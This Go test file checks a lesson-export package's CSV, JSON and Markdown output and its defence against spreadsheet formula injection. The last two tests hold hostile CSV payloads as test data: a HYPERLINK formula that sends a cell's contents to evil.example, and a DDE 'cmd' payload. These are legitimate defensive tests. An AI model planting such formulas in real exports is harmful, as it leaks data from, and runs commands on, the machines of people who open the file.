package exchange

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/exchangebot/exchangebot/store"
)

// exportFixture stores lessons whose text is hard on every format:
// commas, quotes, new lines, accents, Markdown and a leading #.
func exportFixture(t *testing.T) (*testEnv, []store.Lesson) {
	t.Helper()
	e := newTestService(t)
	ctx := context.Background()
	start := time.Date(2026, 1, 10, 15, 0, 0, 0, time.UTC)
	var sessions []*store.Session
	err := e.store.Update(ctx, func(tx store.Tx) error {
		for i, title := range []string{`Youth employment, "Jóvenes" edition`, "Cash transfers\nPeru"} {
			s := &store.Session{Title: title, Kind: "webinar", Start: start.AddDate(0, 0, i), Duration: time.Hour, TZ: "UTC", Creator: "U1",
				Created: start, Updated: start}
			if err := tx.CreateSession(ctx, s); err != nil {
				return err
			}
			sessions = append(sessions, s)
		}
		for i, a := range []struct {
			session int
			user    string
			q       int
			answer  string
		}{
			{0, "UA", 0, "Mirror teams, \"peer\" reviews;\nthe evaluación was credible."},
			{0, "UA", 2, "# Not a heading\n* not a list"},
			{0, "UB", 0, "Ñandú, ça va, 東京"},
			{1, "UC", 1, `"Quoted", entirely`},
		} {
			if _, err := tx.SaveAnswer(ctx, store.Lesson{SessionID: sessions[a.session].ID, UserID: a.user, QuestionIdx: a.q,
				Question: "Question, \"" + strconv.Itoa(a.q+1) + "\"?", Answer: a.answer}, start.Add(time.Duration(48+i)*time.Hour)); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	lessons, err := e.store.AllLessons(ctx)
	if err != nil || len(lessons) != 4 {
		t.Fatalf("AllLessons = %d, %v", len(lessons), err)
	}
	return e, lessons
}

func TestExportCSVRoundTrips(t *testing.T) {
	_, lessons := exportFixture(t)
	var buf bytes.Buffer
	if err := WriteLessons(&buf, "csv", lessons); err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(buf.String(), "\r\n") {
		t.Error("CSV records do not end in CRLF (RFC 4180)")
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(records[0], exportColumns) {
		t.Errorf("header = %v", records[0])
	}
	if len(records) != len(lessons)+1 {
		t.Fatalf("%d records, want %d", len(records), len(lessons)+1)
	}
	for i, l := range lessons {
		want := []string{strconv.FormatInt(l.SessionID, 10), l.SessionTitle, "webinar", l.SessionStart.Format(time.RFC3339), l.UserID,
			strconv.Itoa(l.QuestionIdx + 1), l.Question, l.Answer, l.Created.Format(time.RFC3339), l.Updated.Format(time.RFC3339)}
		if !reflect.DeepEqual(records[i+1], want) {
			t.Errorf("record %d = %q\nwant %q", i+1, records[i+1], want)
		}
	}
	if records[1][1] != `Youth employment, "Jóvenes" edition` || records[1][7] != "Mirror teams, \"peer\" reviews;\nthe evaluación was credible." {
		t.Errorf("tricky fields changed: %q", records[1])
	}
}

func TestExportJSON(t *testing.T) {
	_, lessons := exportFixture(t)
	var buf bytes.Buffer
	if err := WriteLessons(&buf, "json", lessons); err != nil {
		t.Fatal(err)
	}
	var got []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if len(got) != 4 || got[2]["answer"] != "Ñandú, ça va, 東京" || got[0]["question_number"] != 1.0 || got[1]["question_number"] != 3.0 ||
		got[3]["session_title"] != "Cash transfers\nPeru" || got[0]["session_start"] != "2026-01-10T15:00:00Z" {
		t.Errorf("json = %v", got)
	}
	for _, k := range exportColumns {
		if _, ok := got[0][k]; !ok {
			t.Errorf("json lacks %q", k)
		}
	}
	buf.Reset()
	if err := WriteLessons(&buf, "json", nil); err != nil || strings.TrimSpace(buf.String()) != "[]" {
		t.Errorf("no lessons = %q, %v; want []", buf.String(), err)
	}
}

func TestExportMarkdownGroupsBySession(t *testing.T) {
	_, lessons := exportFixture(t)
	var buf bytes.Buffer
	if err := WriteLessons(&buf, "md", lessons); err != nil {
		t.Fatal(err)
	}
	want := `# Lessons

## #1 Youth employment, "Jóvenes" edition

webinar, 2026-01-10 15:00 UTC

### UA

**Question, "1"?**

> Mirror teams, "peer" reviews;
> the evaluación was credible.

**Question, "3"?**

> # Not a heading
> * not a list

### UB

**Question, "1"?**

> Ñandú, ça va, 東京

## #2 Cash transfers Peru

webinar, 2026-01-11 15:00 UTC

### UC

**Question, "2"?**

> "Quoted", entirely
`
	if got := buf.String(); got != want {
		t.Errorf("markdown:\n%s\nwant:\n%s", got, want)
	}
	if err := WriteLessons(&buf, "xml", lessons); err == nil || !strings.Contains(err.Error(), "md, csv, json") {
		t.Errorf("unknown format: %v", err)
	}
}

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"click")`, `'=HYPERLINK("https://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Plain answer = fine", "Plain answer = fine"},
		{" =1+1", " =1+1"}, // spreadsheets do not evaluate a leading space
		{"", ""},
		{"42", "42"},
		{"-12.5", "-12.5"}, // a signed number runs nothing
		{"+3", "+3"},
		{"-1e3", "-1e3"},
		{"-", "'-"},
		{"2026-01-10T15:00:00Z", "2026-01-10T15:00:00Z"},
		{"Ñandú", "Ñandú"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := CSVCell(tt.in); got != tt.want {
				t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// A formula typed as an answer or a title comes out of the CSV export as
// text, while the JSON export keeps it as typed.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	lessons := []store.Lesson{{SessionID: 1, SessionTitle: "=1+2", SessionKind: "webinar", UserID: "U1",
		Question: "@question", Answer: `=HYPERLINK("https://evil.example/?"&A1,"click")`}}
	var buf bytes.Buffer
	if err := WriteLessons(&buf, "csv", lessons); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if r := records[1]; r[1] != "'=1+2" || r[6] != "'@question" || r[7] != `'=HYPERLINK("https://evil.example/?"&A1,"click")` {
		t.Errorf("record %q", r)
	}
	buf.Reset()
	if err := WriteLessons(&buf, "json", lessons); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"answer": "=HYPERLINK(`) {
		t.Errorf("JSON changed the answer:\n%s", buf.String())
	}
}
